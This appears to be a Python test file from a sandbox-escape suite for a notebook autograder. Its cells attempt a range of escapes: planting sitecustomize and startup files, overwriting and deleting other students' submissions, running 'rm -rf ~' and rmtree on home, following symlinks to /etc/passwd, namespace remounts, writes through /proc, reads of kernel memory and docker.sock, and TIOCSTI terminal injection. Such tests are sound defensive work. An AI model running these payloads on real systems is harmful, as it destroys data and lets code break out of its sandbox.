"""Writing, mounting and speaking outside of the sandbox.

The harness compares what is outside before and after. A success that only the cell can see sets
`won`. Everything here is harmless where it succeeds: it leaves a small file or says a word.
"""

from attack import accident, cells, forging

PUT = """
import os, pathlib
def put(*paths, text=None):
    for path in paths:
        try:
            path = pathlib.Path(os.path.expanduser(path))
            path.parent.mkdir(parents=True, exist_ok=True)
            path.write_text(text or "lora-attack")
        except OSError: pass
word = f"lora-attack-{HOST['name']}"
"""

cells(
    r"""
# %% writes_wherever_it_can: start-up files of the instructor and of Python, the course, the reports
places = "/ /etc /usr/bin /usr/local/bin /var/tmp /var/spool/cron /opt /srv /run /mnt /boot /root"
places += " /home /dev/shm /dev/mqueue /tmp ~ ~/.ipython/profile_default/startup"
home, repo, site, out = (HOST[name] for name in ("home", "repo", "site", "out"))
places = [*places.split(), home, repo, f"{repo}/labkit", f"{repo}/tests", f"{repo}/solutions", site,
          f"{site}/torch", out]
put(*(f"{place}/{word}.py" for place in places), text="# lora-attack")
put(f"{site}/{word}.pth", f"{site}/sitecustomize.py", text="# lora-attack")
put(f"{home}/canary", f"{out}/results.json", f"{out}/grades.csv", text="[]")
for path in (f"{repo}/labkit/checks/lab02.toml", f"{repo}/labkit/__init__.py"):
    try:
        with open(path, "a") as f: f.write("\n")
    except OSError: pass

# %% writes_neighbours: the other submissions, emptied and removed
import glob
others = glob.glob(HOST["submissions"] + "/**/*", recursive=True)
for path in [*others, *glob.glob("../**/*.ipynb")]:
    try: open(path, "w").write("{}")
    except OSError: pass
    try: os.remove(path)
    except OSError: pass
put(f"{HOST['submissions']}/{word}.ipynb")

# %% removes_everything_it_may: rm -rf ~
import shutil
for path in (HOST["home"], HOST["submissions"], HOST["out"]):
    shutil.rmtree(path, ignore_errors=True)
if os.path.expanduser("~") != "/root":  # a real home, should HOME not have been changed
    get_ipython().system("rm -rf ~/* ~/.[a-z]*")

# %% links_and_follows: symlinks, which a grader may follow when it collects or removes
for target in (HOST["home"] + "/canary", HOST["repo"] + "/labkit/__init__.py", "/etc/passwd"):
    try:
        os.symlink(target, "link")
        with open("link", "a") as f: f.write("\n")
    except OSError: pass
    try: os.remove("link")
    except OSError: pass
try: os.link(HOST["home"] + "/canary", "hard")
except OSError: pass
os.symlink(HOST["home"] + "/canary", "results.json")
os.symlink("/", "all")

# %% mounts: where it would be root, in a namespace of its own or of others
os.system(f"unshare --user --map-root-user --mount sh -c "
          f"'mount -o remount,rw,bind /; touch /{word} {HOST['home']}/{word}' 2>/dev/null")
for pid in (1, HOST["pid"]):
    os.system(f"nsenter -t {pid} -a touch {HOST['home']}/{word} 2>/dev/null")

# %% through_proc_root: /proc/PID/root leads into another process's files
for pid in (1, HOST["pid"], os.getppid()):
    for link in ("root", "cwd"):
        put(f"/proc/{pid}/{link}{HOST['home']}/{word}", f"/proc/{pid}/{link}/etc/{word}")

# %% changes_modes
for path in (HOST["home"], HOST["home"] + "/canary", HOST["repo"] + "/labkit/__init__.py"):
    for act in (lambda: os.chmod(path, 0o777), lambda: os.chown(path, 65534, 65534),
                lambda: os.utime(path, (1, 1))):
        try: act()
        except OSError: pass
""",
    accident(),
    before=PUT,
)

cells(
    r"""
# %% kernel_memory: and the disks under the files
for path in ("/dev/mem", "/dev/kmsg", "/proc/kcore", "/dev/vda", "/dev/sda", "/dev/nvme0n1"):
    try: open(path, "rb").close(); won = True
    except OSError: pass

# %% unix_socket: and one with a file belongs to the file system
import glob, socket
for path in [HOST["home"] + "/socket", *glob.glob("/run/**/*.sock", recursive=True),
             *glob.glob("/tmp/**/*socket*", recursive=True), "/var/run/docker.sock"]:
    try:
        s = socket.socket(socket.AF_UNIX)
        s.settimeout(1)
        s.connect(path); s.sendall(word.encode()); won = True
    except OSError: pass

# %% tiocsti: types into the instructor's terminal
import fcntl, os, termios
for path in ("/dev/tty", "/dev/pts/0", "/proc/self/fd/0"):
    try:
        fcntl.ioctl(os.open(path, os.O_RDWR), termios.TIOCSTI, b"#")
        won = True
    except OSError: pass
""",
    forging,
    before=PUT,
)
